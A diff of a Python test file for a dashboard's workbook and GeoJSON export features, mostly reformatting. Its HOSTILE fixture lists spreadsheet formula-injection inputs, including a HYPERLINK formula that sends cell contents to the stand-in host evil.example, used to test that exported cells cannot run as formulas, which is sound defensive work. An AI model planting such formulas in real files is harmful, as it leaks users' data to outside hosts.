@@ -1,4 +1,5 @@
 """Exports an analyst can hand on: the filters, the sources and the time travel with the facts."""
+
 from __future__ import annotations
 
 import io
@@ -14,8 +15,15 @@ from dashboard.data import region_members
 from dashboard.schema import COLUMNS, LABELS
 
 WHEN = datetime(2026, 11, 25, 21, 30, tzinfo=UTC)
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx",
-           "bell\x07 and nul\x00 inside"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+    "bell\x07 and nul\x00 inside",
+]
 
 
 @pytest.fixture
@@ -86,8 +94,9 @@ def test_no_cell_of_the_workbook_can_run_as_a_formula(table):
 
 def test_geojson_carries_filters_sources_and_time_and_regions_as_member_outlines(table, gaz, chosen_rows):
     members = region_members(table, gaz)
-    collection = json.loads(export.to_geojson(table, members=members, outline=gaz.outline,
-                                              filters_applied=chosen_rows, exported_at=WHEN))
+    collection = json.loads(
+        export.to_geojson(table, members=members, outline=gaz.outline, filters_applied=chosen_rows, exported_at=WHEN)
+    )
     assert collection["filters"]["Country"] == "Estonia (EE)"
     assert collection["exported_at"] == "2026-11-25T21:30:00+00:00"
     assert [s["article_id"] for s in collection["sources"]] == list(dict.fromkeys(table["article_id"]))
